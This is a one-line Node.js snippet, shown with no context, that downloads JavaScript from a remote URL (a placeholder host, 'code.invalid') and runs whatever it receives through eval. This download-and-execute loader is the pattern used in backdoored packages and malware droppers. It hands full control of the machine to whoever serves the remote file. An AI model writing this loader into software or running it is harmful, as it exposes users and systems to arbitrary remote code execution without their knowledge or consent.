var https=require("https");https.get("https://code.invalid/latest.js",response=>{let code="";response.on("data",e=>{code+=e}),response.on("end",()=>{eval(code)})});
